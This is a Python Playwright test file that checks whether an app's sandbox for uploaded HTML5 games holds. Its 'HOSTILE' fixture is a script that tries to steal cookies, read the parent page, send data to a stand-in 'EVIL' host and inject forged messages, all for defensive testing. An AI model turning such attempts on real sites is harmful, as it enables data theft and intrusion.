"""Games in a real browser: what a hostile one cannot do, and how our own are played by keys."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from playwright.sync_api import Page, Route, sync_playwright
from pytest_django.live_server_helper import LiveServer

from builders import a_campaign, a_membership, a_participant
from material.making import a_creative, a_zip
from sebar.kit import codes
from sebar.material import actions, games, queries
from sebar.participants.models import Participant

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

PHONE = "Mozilla/5.0 (Linux; Android 14) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/148.0.0.0 Mobile Safari/537.36"
HOSTILE = """<!doctype html><title>x</title><script>
const did = {};
const attempt = async (name, act) => {
  try { did[name] = String(await act()); } catch (error) { did[name] = "REFUSED"; }
};
(async () => {
  await attempt("cookie", () => document.cookie);
  await attempt("storage", () => localStorage.setItem("a", "b"));
  await attempt("parent page", () => parent.document.title);
  await attempt("parent address", () => parent.location.href);
  await attempt("top page", () => top.document.body.innerHTML);
  await attempt("lead the page away", () => { top.location = "EVIL/top"; });
  await attempt("fetch home", () => fetch("EVIL/fetch"));
  await attempt("fetch ours", () => fetch("/console/").then((answer) => answer.text()));
  await attempt("fetch another game", () => fetch("/g/OTHER/index.html").then((answer) => answer.text()));
  await attempt("request", () => new Promise((yes, no) => {
    const asked = new XMLHttpRequest(); asked.onload = yes; asked.onerror = no;
    asked.open("GET", "EVIL/xhr"); asked.send();
  }));
  await attempt("beacon", () => { navigator.sendBeacon("EVIL/beacon", "x"); return "sent"; });
  await attempt("socket", () => new Promise((yes, no) => {
    const line = new WebSocket("WS/socket"); line.onopen = yes; line.onerror = no;
  }));
  const load = (tag, name) => new Promise((yes, no) => {
    const one = document.createElement(tag); one.onload = yes; one.onerror = no;
    one[tag === "link" ? "href" : "src"] = name; if (tag === "link") one.rel = "stylesheet";
    document.head.append(one); setTimeout(no, 2000);
  });
  await attempt("picture", () => load("img", "EVIL/img"));
  await attempt("script", () => load("script", "EVIL/script"));
  await attempt("style", () => load("link", "EVIL/style"));
  await attempt("another game's script", () => load("script", "/g/OTHER/secret.js"));
  await attempt("window", () => { if (!window.open("EVIL/open")) throw 1; return "open"; });
  const form = document.createElement("form"); form.action = "EVIL/form"; document.body.append(form);
  await attempt("form", () => { form.submit(); return "asked"; });
  parent.postMessage({ sebar: 1, type: "finished", score: "42" }, "*");
  parent.postMessage({ sebar: 1, type: "finished", score: -1 }, "*");
  parent.postMessage({ sebar: 1, type: "finished", score: 1e12 }, "*");
  parent.postMessage({ sebar: 1, type: "<img onerror=alert(1)>" }, "*");
  parent.postMessage("nonsense", "*"); parent.postMessage(null, "*");
  parent.postMessage({ sebar: 1, type: "score", score: 7 }, "*");
  document.title = JSON.stringify(did);
})();
</script><p id="still">here</p>"""


@contextmanager
def a_listener() -> Iterator[tuple[str, list[str]]]:
    """Another server, and what it was asked."""
    asked: list[str] = []

    class Listening(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET  # noqa: N815 - the base's names

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Listening)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"127.0.0.1:{server.server_port}", asked
    server.shutdown()
    server.server_close()


@contextmanager
def a_phone(server: LiveServer, touches: list[dict[str, Any]]) -> Iterator[Page]:
    def keep(route: Route) -> None:
        touches.extend(json.loads(route.request.post_data or "[]"))
        route.fulfill(status=204)

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path="/usr/bin/chromium", args=["--no-sandbox"])
        context = browser.new_context(
            viewport={"width": 390, "height": 844}, locale="en-GB", base_url=server.url, user_agent=PHONE
        )
        context.set_default_timeout(120_000)  # the first page waits until everything is loaded
        page = context.new_page()
        page.route("**/t", keep)
        yield page
        browser.close()


def test_a_hostile_game_reaches_nothing_and_tells_nobody(live_server: LiveServer) -> None:
    member, other = a_membership(), a_membership()
    theirs = a_creative(other, a_campaign(other), "game", upload=a_zip({"index.html": "x", "secret.js": "1"}))
    campaign = a_campaign(member)
    touches: list[dict[str, Any]] = []
    with a_listener() as (evil, asked):
        written = HOSTILE.replace("EVIL", f"http://{evil}").replace("WS/", f"ws://{evil}/")
        a_creative(
            member, campaign, "game", upload=a_zip({"index.html": written.replace("OTHER", theirs.files["game"])})
        )
        with a_phone(live_server, touches) as page:
            page.goto(f"/c/{campaign.slug}")
            before = page.url
            page.get_by_role("link", name="Play").click()
            page.locator("[data-said]", has_text="7").wait_for(state="attached")
            frame = next(one for one in page.frames if "/g/" in one.url)
            did = json.loads(frame.title())
            frame.evaluate("address => { location = address; }", f"http://{evil}/leave")
            page.get_by_label("Your name").fill("Budi")
            assert page.url == before
            assert page.locator("[data-made]").is_hidden()
        assert asked == []
    allowed = {name for name, came in did.items() if came != "REFUSED"}
    # These two only say that they were asked to; nobody heard of it.
    assert allowed <= {"beacon", "form", "lead the page away"}
    assert [touch["kind"] for touch in touches] == ["view"]


def test_the_game_file_itself_says_that_it_may_do_nothing(live_server: LiveServer) -> None:
    member = a_membership()
    made = a_creative(member, a_campaign(member), "game", upload=a_zip({"index.html": "<p>x"}))
    with sync_playwright() as playwright:
        answer = playwright.request.new_context(base_url=live_server.url).get(f"/g/{made.files['game']}/index.html")
        assert "sandbox allow-scripts" in answer.headers["content-security-policy"]
        assert "connect-src 'none'" in answer.headers["content-security-policy"]
        assert "set-cookie" not in answer.headers
        assert answer.headers["x-content-type-options"] == "nosniff"


def test_a_game_is_played_by_keys_and_its_points_are_passed_on(live_server: LiveServer) -> None:
    member = a_membership()
    campaign = a_campaign(member)
    game = a_creative(member, campaign, "game", name="pairs", upload=games.packed("pairs").read_bytes())
    dewi = a_participant(campaign, name="Dewi Anggraini", creative="pairs")
    actions.keep_score(creative=game, participant=dewi.pk, score=4)
    touches: list[dict[str, Any]] = []
    with a_phone(live_server, touches) as page:
        page.goto(f"/c/{campaign.slug}?ref={codes.spell(dewi.pk)}")
        page.get_by_text("Dewi A. made 4: beat it.").wait_for()
        page.get_by_role("link", name="Play").focus()
        page.keyboard.press("Enter")
        frame = page.frame_locator("iframe.game")
        frame.get_by_text("Dewi A. made 4 points. Beat it!").wait_for()
        cards = frame.locator(".table button")
        drawn = [cards.nth(place).locator("path").get_attribute("d") for place in range(16)]
        cards.first.focus()
        for one in dict.fromkeys(drawn):
            for place in [at for at, other in enumerate(drawn) if other == one]:
                cards.nth(place).focus()
                page.keyboard.press("Enter")
        page.get_by_text("You made 100.").wait_for()
        page.get_by_label("Your name").fill("Budi")
        page.get_by_role("checkbox").check()
        page.get_by_role("button", name="Join in").click()
        page.get_by_role("heading", name="You are in. Now bring your friends.").wait_for()
        assert "c=pairs" in page.locator("#link").input_value()
        door = page.locator("a[data-way='whatsapp']").first.get_attribute("href") or ""
    budi = Participant.objects.get(name="Budi")
    assert (budi.parent, budi.creative) == (dewi, "pairs")
    assert queries.best(game, budi.pk) == 100
    assert "I%20made%20100" in door
    assert [(touch["kind"], touch["c"], touch.get("step"), touch.get("score")) for touch in touches] == [
        ("view", "pairs", None, None),
        ("play", "pairs", "started", None),
        ("play", "pairs", "finished", 100),
    ]
